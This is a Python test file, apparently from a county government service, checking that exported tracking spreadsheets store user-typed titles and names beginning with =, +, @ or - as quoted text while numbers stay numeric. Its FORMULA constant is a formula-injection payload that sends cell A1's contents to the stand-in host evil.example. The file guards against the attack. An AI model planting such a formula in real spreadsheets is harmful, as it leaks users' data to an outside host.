"""What people typed goes into the exported spreadsheets as text: a title like `=HYPERLINK(…)` is never a live formula."""

from __future__ import annotations

from io import BytesIO

from openpyxl import Workbook, load_workbook

from services.county.adapters.excel import tracking_workbook
from services.county.adapters.sheet_rows import append_row

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_suggestion_titled_like_a_formula_is_text_in_the_tracking_list() -> None:
    content = tracking_workbook(
        [{"number": "+1", "title": FORMULA, "lead_deputy_name": "@王建国", "status": "submitted"}], heading="跟踪表"
    )
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value}
    for typed in (FORMULA, "+1", "@王建国"):
        assert cells[typed].data_type == "s", typed
        assert cells[typed].quotePrefix, typed


def test_numbers_stay_numbers_and_plain_text_has_no_prefix() -> None:
    sheet = Workbook().active
    assert sheet is not None
    append_row(sheet, ["城关镇", 12, 0.5, "-5 件"])
    name, count, rate, leading_minus = sheet[1]
    assert (name.data_type, name.quotePrefix) == ("s", False)
    assert count.data_type == "n" and rate.data_type == "n"
    assert (leading_minus.data_type, leading_minus.quotePrefix) == ("s", True)
